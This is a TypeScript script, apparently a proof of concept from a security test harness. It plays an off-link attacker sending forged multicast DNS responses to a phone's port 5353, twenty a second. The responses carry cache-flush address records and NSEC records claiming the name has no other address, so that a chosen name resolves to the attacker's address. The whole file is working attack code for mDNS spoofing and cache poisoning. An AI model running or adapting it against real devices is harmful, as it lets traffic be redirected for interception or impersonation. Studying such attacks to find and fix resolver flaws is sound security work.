/**
 * An attacker off the link who answers, unasked, what the phone asks its own link: multicast DNS responses (RFC 6762 §6)
 * sent straight to the phone's port 5353, twenty a second. Arguments: PHONE-IPV4 PHONE-IPV6 NAME-IPV4 NAME-IPV6
 * ADDRESS-IPV4 ADDRESS-IPV6.
 */
import { createSocket } from "node:dgram";
import { encodeAddress } from "./forged-record.ts";

const [phone4 = "", phone6 = "", name4 = "", name6 = "", own4 = "", own6 = ""] = process.argv.slice(2);

const encodeName = (name: string): Buffer =>
  Buffer.concat([
    ...name.split(".").map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])),
    Buffer.from([0]),
  ]);

/** The address with the cache-flush bit, and that the name has no other (RFC 6762 §6.1): without that, one waits for it. */
function response(name: string, address: string): Buffer {
  const owner = encodeName(name);
  const data = encodeAddress(address);
  const types = data.length === 4 ? [0x40] : [0, 0, 0, 0x08];
  const absence = Buffer.concat([owner, Buffer.from([0, types.length, ...types])]);
  return Buffer.concat([
    Buffer.from([0, 0, 0x84, 0, 0, 0, 0, 2, 0, 0, 0, 0]),
    ...[owner, Buffer.from([0, data.length === 4 ? 1 : 28, 0x80, 1, 0, 0, 0, 120, 0, data.length]), data],
    ...[owner, Buffer.from([0, 47, 0x80, 1, 0, 0, 0, 120, 0, absence.length]), absence],
  ]);
}

const sockets = {
  v4: createSocket({ type: "udp4", reuseAddr: true }),
  v6: createSocket({ type: "udp6", reuseAddr: true, ipv6Only: true }),
};
await Promise.all(Object.values(sockets).map((socket) => new Promise<void>((done) => socket.bind(5353, done))));
const send = () => {
  for (const answer of [response(name4, own4), response(name6, own6)]) {
    sockets.v4.send(answer, 5353, phone4);
    sockets.v6.send(answer, 5353, phone6);
  }
};
setInterval(send, 50);
console.log("ready");
